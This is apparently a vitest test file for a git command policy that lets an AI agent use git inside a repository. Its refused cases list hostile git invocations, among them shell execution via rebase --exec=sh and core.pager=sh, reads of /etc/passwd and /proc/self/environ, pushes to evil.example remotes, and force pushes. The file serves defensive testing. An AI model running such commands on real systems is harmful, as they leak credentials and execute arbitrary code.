/**
 * The checked git's decisions (pure). Every way git can run a command, write
 * a file, read a file outside the repository or reach another repository
 * through an allowed Bash rule is refused; ordinary work passes unchanged.
 */
import { describe, expect, it } from "vitest";
import { decideGit, isBranchName, type PolicyContext } from "../../../src/boundary/git-policy";

const ctx: PolicyContext = { workspace: "/ws", cwd: "/ws", workBranch: "claude/issue-7-20260101-0000", protectedPaths: [] };
const decide = (cmd: string, c: Partial<PolicyContext> = {}) => decideGit(cmd.split(" ").filter(Boolean), { ...ctx, ...c });
const refused = (cmd: string, c: Partial<PolicyContext> = {}) => {
  const d = decide(cmd, c);
  if (d.kind !== "refuse") throw new Error(`expected '${cmd}' to be refused, got ${JSON.stringify(d)}`);
  return d.message;
};

describe("ordinary work passes unchanged", () => {
  it.each([
    "status",
    "status --short --branch",
    "status -sb",
    "diff",
    "diff --cached --stat",
    "diff HEAD~1..HEAD -- src/app.ts",
    "diff -U5 --name-only",
    "log --oneline -n 5",
    "log -5 --format=%H%x20%s",
    "log --oneline origin/main..HEAD",
    "show HEAD:src/app.ts",
    "show --stat HEAD",
    "add src/app.ts README.md",
    "add -A",
    "add .",
    "commit -m fix",
    "commit -am fix",
    "commit --amend --no-edit",
    "commit -F -",
    "rm --cached old.txt",
    "mv a.txt b.txt",
    "restore --staged src/app.ts",
    "checkout -b feature",
    "checkout -- src/app.ts",
    "switch -c other",
    "reset --soft HEAD~1",
    "stash",
    "stash pop",
    "branch --show-current",
    "branch -a",
    "rev-parse --abbrev-ref HEAD",
    "ls-files",
    "blame -L 1,5 src/app.ts",
    "grep -n greet -- src",
    "merge --no-ff origin/main",
    "merge -X theirs origin/main",
    "merge -s ort origin/main",
    "rebase origin/main",
    "cherry-pick -x abc123",
    "revert --no-edit HEAD",
    "remote -v",
    "--no-pager log -1",
  ])("%s", (cmd) => {
    const d = decide(cmd);
    expect(d.kind, JSON.stringify(d)).toBe("run");
    if (d.kind === "run") expect(d.args).toEqual(cmd.split(" "));
  });

  it("--version", () => expect(decide("--version")).toEqual({ kind: "run", args: ["--version"] }));
});

describe("options that run a command or write or read a file are refused", () => {
  it.each([
    ["log --output=/tmp/x", /--output/],
    ["log --output /home/runner/.bashrc", /--output/],
    ["diff --output=/tmp/x", /--output/],
    ["diff --no-index /etc/passwd /dev/null", /--no-index/],
    ["diff --ext-diff", /--ext-diff/],
    ["diff -O/etc/passwd", /-O/],
    ["log --textconv", /--textconv/],
    ["commit -F /proc/self/environ", /-F\/--file reads a file/],
    ["commit --file=/etc/passwd", /-F\/--file reads a file/],
    ["commit -t /tmp/template", /-t/],
    ["commit --template=/tmp/t", /--template/],
    ["commit -S", /-S/],
    ["commit --pathspec-from-file=/etc/passwd", /--pathspec-from-file/],
    ["add --pathspec-from-file=/etc/passwd", /--pathspec-from-file/],
    ["add -p", /-p/],
    ["add -e", /-e/],
    ["add -f .env", /-f/],
    ["grep -O cat x", /-O/],
    ["grep --open-files-in-pager=sh x", /--open-files-in-pager/],
    ["grep --no-index secret /etc", /--no-index/],
    ["rebase -x sh", /-x/],
    ["rebase --exec=sh", /--exec/],
    ["rebase -i HEAD~3", /-i/],
    ["merge -s evil", /not one of git's built-in strategies/],
    ["merge --strategy=../../tmp/x", /not one of git's built-in strategies/],
    ["cherry-pick --strategy=evil abc", /not one of git's built-in strategies/],
    ["blame --contents /etc/passwd x", /--contents/],
    ["cat-file --textconv HEAD:x", /--textconv/],
    ["branch --set-upstream-to=origin/x", /set-upstream-to/],
  ])("%s", (cmd, why) => {
    expect(refused(cmd)).toMatch(why);
  });
});

describe("global options and other subcommands", () => {
  it.each([
    ["-c core.pager=sh log", /-c \(before the subcommand\)/],
    ["-c alias.x=!sh x", /-c/],
    ["--config-env=core.pager=X log", /--config-env/],
    ["-C /other status", /-C/],
    ["--git-dir=/other/.git log", /--git-dir/],
    ["--work-tree=/ status", /--work-tree/],
    ["--exec-path=/tmp log", /--exec-path/],
  ])("%s", (cmd, why) => {
    expect(refused(cmd)).toMatch(why);
  });

  it.each(["config core.hooksPath /tmp", "config --get http.extraheader", "submodule update", "worktree add /tmp/x", "clone /x", "init /tmp/x", "archive -o /tmp/x HEAD", "format-patch -o /tmp HEAD~1", "bundle create /tmp/b HEAD", "apply /etc/passwd", "am x", "filter-branch", "gc", "notes add", "var GIT_EDITOR", "help log", "daemon", "upload-pack .", "receive-pack .", "hook run x", "credential fill", "remote add evil https://evil/x", "remote set-url origin https://evil/x", "pull"])(
    "git %s",
    (cmd) => {
      expect(decide(cmd).kind).toBe("refuse");
    },
  );

  it("names what is available when a subcommand is not", () => {
    expect(refused("config --list")).toMatch(/git config is not available to Claude in this action\. Available: .*commit.*push.*status/);
  });

  it("a subcommand is required", () => {
    expect(refused("--no-pager")).toMatch(/needs a subcommand/);
  });
});

describe("paths stay inside the repository", () => {
  it.each(["diff /etc/passwd /dev/null", "diff -- ../outside", "add /tmp/x", "log -- /", "show ../../etc/passwd", "blame ../x", "add ../sibling/file"])("%s", (cmd) => {
    expect(refused(cmd)).toMatch(/is outside the repository/);
  });

  it("absolute paths inside the workspace, revisions and pathspec magic are fine", () => {
    expect(decide("add /ws/src/app.ts").kind).toBe("run");
    expect(decide("diff HEAD..origin/main").kind).toBe("run");
    expect(decide("log ..origin/main").kind).toBe("run");
    expect(decide("add :(top)src").kind).toBe("run");
    expect(decide("diff -- ..", { cwd: "/ws/src" }).kind).toBe("run");
  });

  it("refuses to run outside the workspace at all", () => {
    expect(refused("status", { cwd: "/tmp" })).toMatch(/runs only inside the repository/);
  });
});

describe("push and fetch go to the broker, for the working branch only", () => {
  it.each(["push", "push origin", "push origin HEAD", "push -u origin HEAD", "push origin claude/issue-7-20260101-0000", "push origin HEAD:claude/issue-7-20260101-0000", "push origin refs/heads/claude/issue-7-20260101-0000", "push --set-upstream origin claude/issue-7-20260101-0000", "push -q --porcelain origin HEAD"])(
    "%s",
    (cmd) => {
      expect(decide(cmd).kind).toBe("push");
    },
  );

  it.each([
    ["push --force", /--force is not available/],
    ["push -f origin HEAD", /-f is not available/],
    ["push --force-with-lease", /not available/],
    ["push origin +HEAD", /force pushes and deletions/],
    ["push origin :main", /force pushes and deletions/],
    ["push --delete origin x", /--delete/],
    ["push -d origin x", /-d/],
    ["push --tags", /--tags/],
    ["push origin v1.0", /only its working branch/],
    ["push --mirror", /--mirror/],
    ["push --all", /--all/],
    ["push origin main", /only its working branch/],
    ["push origin HEAD:main", /only its working branch/],
    ["push origin HEAD:refs/heads/main", /only its working branch/],
    ["push https://evil.example/x.git HEAD", /only origin/],
    ["push other HEAD", /only origin/],
    ["push --receive-pack=sh .", /--receive-pack/],
    ["push --exec=sh origin", /--exec/],
    ["push --repo=https://evil/x", /--repo/],
    ["push -o ci.skip origin HEAD", /-o/],
    ["push origin a b", /at most a remote and one branch/],
  ])("%s", (cmd, why) => {
    expect(refused(cmd)).toMatch(why);
  });

  it("without a working branch there is nothing to push", () => {
    expect(refused("push", { workBranch: undefined })).toMatch(/no working branch/);
  });

  it("fetch: branch names of origin, with depth/unshallow/prune", () => {
    expect(decide("fetch")).toEqual({ kind: "fetch", branches: [], unshallow: false, prune: false });
    expect(decide("fetch origin main feature/x --depth=50 --prune")).toEqual({ kind: "fetch", branches: ["main", "feature/x"], depth: 50, unshallow: false, prune: true });
    expect(decide("fetch origin refs/heads/main --unshallow")).toEqual({ kind: "fetch", branches: ["main"], unshallow: true, prune: false });
  });

  it.each([
    ["fetch --upload-pack=sh origin", /--upload-pack/],
    ["fetch evil main", /only origin/],
    ["fetch https://evil/x main", /only origin/],
    ["fetch origin +main:refs/heads/main", /no refspecs/],
    ["fetch origin main:x", /no refspecs/],
    ["fetch --depth=0", /positive number/],
  ])("%s", (cmd, why) => {
    expect(refused(cmd)).toMatch(why);
  });
});

describe("pull request runs: the base branch's config files cannot be touched through git", () => {
  const pr = { protectedPaths: [".claude", "CLAUDE.md", "docs/CLAUDE.md"] };
  it.each(["add CLAUDE.md", "add .claude/settings.json", "rm -r .claude", "rm docs/CLAUDE.md", "mv CLAUDE.md x.md", "checkout -- CLAUDE.md", "restore .claude", "reset -- CLAUDE.md", "rm -r ."])("%s", (cmd) => {
    expect(refused(cmd, pr)).toMatch(/comes from the base branch/);
  });

  it("other paths, and add -A / add . (git's skip-worktree and excludes keep them out), pass", () => {
    expect(decide("add src/app.ts", pr).kind).toBe("run");
    expect(decide("add -A", pr).kind).toBe("run");
    expect(decide("add .", pr).kind).toBe("run");
    expect(decide("commit -am x", pr).kind).toBe("run");
  });
});

describe("with the CLI's subprocess sandbox", () => {
  it("git add skips the device nodes the sandbox puts over masked names instead of failing", () => {
    expect(decide("add -A", { sandboxed: true })).toEqual({ kind: "run", args: ["add", "--ignore-errors", "-A"] });
    expect(decide("add docs/x.md", { sandboxed: true })).toEqual({ kind: "run", args: ["add", "--ignore-errors", "docs/x.md"] });
    expect(decide("commit -am x", { sandboxed: true })).toEqual({ kind: "run", args: ["commit", "-am", "x"] });
  });
});

describe("isBranchName", () => {
  it("accepts what git accepts and refuses the rest", () => {
    for (const ok of ["main", "claude/issue-1-20260101-0000", "feature/x.y", "a-b_c"]) expect(isBranchName(ok), ok).toBe(true);
    for (const bad of ["", "-x", "a..b", "a b", "a~1", "a^", "a:b", "a?", "a*", "a[", "a\\b", "/a", "a/", "a.lock", "a//b", ".hidden", "a/.b", "@", "a@{1}", "a."]) {
      expect(isBranchName(bad), bad).toBe(false);
    }
  });
});
